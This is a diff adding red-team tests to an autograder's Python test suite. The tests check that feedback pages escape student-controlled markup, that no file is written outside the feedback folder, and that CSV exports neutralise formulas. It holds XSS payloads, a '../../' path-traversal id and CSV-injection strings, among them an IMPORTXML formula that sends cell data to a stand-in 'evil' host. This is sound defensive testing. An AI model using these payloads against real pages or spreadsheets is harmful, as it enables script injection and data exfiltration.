@@ -367,3 +367,163 @@ def test_export_moodle_leaves_out_students_without_participant_id(graded, tmp_pa
     assert rows == [["Identifier", "Full name", "Email address", "Status", "Grade", "Maximum Grade",
                      "Grade can be changed", "Last modified (submission)", "Last modified (grade)",
                      "Feedback comments"]]
+
+
+# --------------------------------------------------------------------------- hostile inputs (red team)
+
+XSS_NAME = '<script>alert("name")</script><img src=x onerror=alert(1)> & "Bobby" \'Tables\''
+XSS_ERROR = ('AssertionError: </pre></td><script>alert(document.cookie)</script>'
+             '<a href="javascript:alert(1)" onclick="alert(2)">click</a>')
+XSS_REASON = '"><iframe src="javascript:alert(3)"></iframe><style>body{display:none}</style>'
+XSS_TRACEBACK = ["x" * 20_000 + "<script>alert('long')</script>",  # first: the 6000-char tail keeps the rest
+                 "\x1b[0;31m---------------------------------------------------------------\x1b[0m",
+                 "\x1b[0;31mAssertionError\x1b[0m: <svg onload=alert(4)>",
+                 "<!-- comment --><base href=\"javascript:alert(5)//\"><meta http-equiv=refresh content=0;url=evil>"]
+ALLOWED_TAGS = {"html", "head", "meta", "title", "style", "body", "h1", "h2", "h3", "p", "b", "table", "tr", "th",
+                "td", "pre", "small"}
+ALLOWED_ATTRS = {("html", "lang"), ("meta", "charset"), ("td", "class"), ("p", "class")}
+
+
+class _Markup:
+    """Every tag, attribute, comment and declaration of an HTML page."""
+
+    def __init__(self, text: str):
+        from html.parser import HTMLParser
+
+        self.tags, self.attrs, self.other = [], [], []
+        me = self
+
+        class P(HTMLParser):
+            def handle_starttag(self, tag, attrs):
+                me.tags.append(tag)
+                me.attrs.extend((tag, k, v) for k, v in attrs)
+
+            def handle_comment(self, data):
+                me.other.append(("comment", data))
+
+            def handle_decl(self, decl):
+                if decl.lower() != "doctype html":
+                    me.other.append(("decl", decl))
+
+            def handle_pi(self, data):
+                me.other.append(("pi", data))
+
+        P(convert_charrefs=True).feed(text)
+
+
+@pytest.fixture
+def hostile_class(tmp_path) -> Course:
+    """A graded class whose names, messages, reasons, states and tracebacks all carry markup;
+    built from files only (no kernel), as `grade` would have written them."""
+    shutil.copytree(FIXTURE / "solutions", tmp_path / "solutions")
+    course = Course.at(tmp_path)
+    write_manifest(course, None, {"mallory": ("2025-03-01T11:00:00+00:00", False),
+                                  "crasher": ("2025-03-01T11:00:00+00:00", False)},
+                   roster={"mallory": XSS_NAME, "crasher": "javascript:alert(6)"})
+    scores = {"test_add": {"points": 0.0, "max_points": 1.0, "passed": False, "error": XSS_ERROR},
+              "test_mean_square": {"points": 0.0, "max_points": 2.0, "passed": False, "error": "x" * 50_000 + XSS_ERROR}}
+    write_result(course, {"student": "mallory", "unit": UNIT, "notebook": NB, "state": "graded", "reason": "",
+                          "timestamp": "2025-03-01T11:00:00+00:00<script>", "scores": scores, "total": 0.0,
+                          "max_total": 3.0})
+    write_result(course, {"student": "crasher", "unit": UNIT, "notebook": NB, "state": "<b onmouseover=alert(7)>crashed",
+                          "reason": XSS_REASON, "timestamp": "2025-03-01T11:00:00+00:00", "scores": scores,
+                          "total": 0.0, "max_total": 3.0})
+    nb = nbformat.read(course.solutions / UNIT / NB, as_version=4)
+    for cell in nb.cells:
+        meta = cell.metadata.get("nbgrader", {})
+        if meta.get("grade"):
+            cell.outputs = [nbformat.v4.new_output("error", ename="AssertionError", evalue=XSS_ERROR,
+                                                   traceback=XSS_TRACEBACK)]
+        elif cell.cell_type == "code":  # the student's own outputs: never shown
+            cell.outputs = [nbformat.v4.new_output("display_data", data={"text/html": "<script>alert('own')</script>"}),
+                            nbformat.v4.new_output("stream", name="stdout", text="<script>alert('print')</script>")]
+    out = course.workspace / "autograded" / "mallory" / UNIT / NB
+    out.parent.mkdir(parents=True, exist_ok=True)
+    nbformat.write(nb, out)
+    return course
+
+
+def test_feedback_escapes_markup_from_names_errors_reasons_and_tracebacks(hostile_class):
+    """Nothing a student controls (display name, exception message, traceback, a results file's
+    state/reason/time) becomes markup in the page: only the report's own tags and attributes."""
+    written = feedback(hostile_class, UNIT)
+    assert sorted(p.parts[-3] for p in written) == ["crasher", "mallory"]
+    for path in written:
+        raw = path.read_text(encoding="utf-8")
+        m = _Markup(raw)
+        assert set(m.tags) <= ALLOWED_TAGS, set(m.tags) - ALLOWED_TAGS
+        assert {(t, k) for t, k, _v in m.attrs} <= ALLOWED_ATTRS, m.attrs
+        assert not m.other, m.other
+        assert all("javascript" not in (v or "") for _t, _k, v in m.attrs)
+        assert m.tags.count("script") == 0 and m.tags.count("title") == 1 and m.tags.count("style") == 1
+        assert "alert('own')" not in raw and "alert('print')" not in raw  # the student's own outputs
+    mallory = page(hostile_class, "mallory")
+    assert XSS_NAME in mallory and XSS_ERROR in mallory  # shown, as text
+    assert "<svg onload=alert(4)>" in mallory and "\x1b" not in mallory
+    crasher = page(hostile_class, "crasher")
+    assert XSS_REASON in crasher and "javascript:alert(6)" in crasher
+
+
+def test_feedback_never_writes_outside_the_feedback_folder(hostile_class):
+    """A results file whose "student" field is a path ("../../escaped") -- a hand-edited or
+    foreign results file, or a gradebook student id from another tool -- must not make feedback
+    write a page outside grading/feedback/."""
+    root = hostile_class.root
+    evil = hostile_class.workspace / "results" / UNIT / "evil" / "01-fixture.json"  # where load_results looks
+    evil.parent.mkdir(parents=True)
+    evil.write_text(json.dumps({"student": "../../escaped", "unit": UNIT, "notebook": NB, "state": "graded",
+                                "reason": "", "timestamp": "2025-03-01T11:00:00+00:00", "scores": {},
+                                "total": 0.0, "max_total": 3.0}))
+    before = {p for p in root.rglob("*") if p.is_file()}
+    try:
+        feedback(hostile_class, UNIT)
+    except (ValueError, OSError) as err:  # refusing with a message is fine too
+        assert "escaped" in str(err)
+    new = {p for p in root.rglob("*") if p.is_file()} - before
+    fb = hostile_class.workspace / "feedback"
+    assert all(fb in p.parents for p in new), sorted(map(str, new))
+
+
+def test_export_quotes_commas_quotes_newlines_and_keeps_non_ascii(tmp_path):
+    """Names with commas, quotes, newlines, CRs and non-ASCII survive the CSV round trip exactly
+    (a formula-like one only gains its leading quote), in grades.csv, Canvas's and Moodle's files."""
+    from autograder.export import NotebookResult, Question, StudentRow, UnitScores, lms_export, write_exports
+
+    course = Course.at(tmp_path)
+    names = {"s1": 'Smith, "Al" \u00c5sa', "s2": "Line1\nLine2\r\n=still text", "s3": "Zo\u00eb \u00d1\u00fa\u00f1ez \u738b\u5c0f\u660e \U0001f600",
+             "s4": '=IMPORTXML("http://evil/?"&A1,"//x")', "s5": "+44 20 7946 0000", "s6": "-2+3", "s7": "@cmd",
+             "s8": "\t=1+1", "s9": "\r=1+1", "s10": " =1+1"}
+    q = Question(NB, "test_add", 1.0)
+    students = {}
+    for i, (sid, name) in enumerate(names.items()):
+        row = StudentRow(sid, name, notebooks={NB: NotebookResult("graded", timestamp="2025-03-01T11:00:00+00:00")})
+        row.points, row.total, row.max_total, row.final = {q.key: 1.0}, 1.0, 1.0, 1.0
+        students[sid] = row
+    paths = write_exports(course, UnitScores(UNIT, [q], students))
+    write_manifest(course, None, {}, roster=names)
+    m = json.loads((course.workspace / "collect" / f"{UNIT}.json").read_text())
+    m["people"] = {sid: {"name": n, "lms_id": str(1000 + i), "email": f"=x{i}@evil", "login": f"@login{i}",
+                         "section": "+Lab", "sis_user_id": "-S1"} for i, (sid, n) in enumerate(names.items())}
+    (course.workspace / "collect" / f"{UNIT}.json").write_text(json.dumps(m))
+    canvas, _ = lms_export(course, UnitScores(UNIT, [q], students), "canvas")
+    moodle, _ = lms_export(course, UnitScores(UNIT, [q], students), "moodle")
+
+    def inert(v: str) -> str:
+        return "'" + v if v.startswith(("=", "+", "-", "@", "\t", "\r")) else v
+
+    grades = {r["student_id"]: r for r in csv.DictReader(paths["grades"].open(newline="", encoding="utf-8"))}
+    canvas_rows = {r[1]: r for r in csv.reader(canvas.open(newline="", encoding="utf-8"))}
+    moodle_rows = {r[0]: r for r in csv.reader(moodle.open(newline="", encoding="utf-8"))}
+    for i, (sid, name) in enumerate(names.items()):
+        assert grades[sid]["name"] == inert(name), (sid, grades[sid]["name"])
+        c = canvas_rows[str(1000 + i)]
+        assert c[:5] == [inert(name), str(1000 + i), "'-S1", f"'@login{i}", "'+Lab"], c
+        mo = moodle_rows[f"Participant {1000 + i}"]
+        assert mo[1:3] == [inert(name), f"'=x{i}@evil"], mo
+    for path in (paths["grades"], canvas, moodle):
+        raw = path.read_bytes()
+        assert "\u738b\u5c0f\u660e \U0001f600".encode() in raw  # non-ASCII kept, as UTF-8
+        for row in csv.reader(path.open(newline="", encoding="utf-8")):
+            for cell in row:
+                assert not cell.startswith(("=", "+", "@", "\t", "\r")) and not (  # Moodle's own "-" is no formula
+                    cell.startswith("-") and cell != "-" and not cell.lstrip("-").replace(".", "").isdigit()), (path.name, cell)
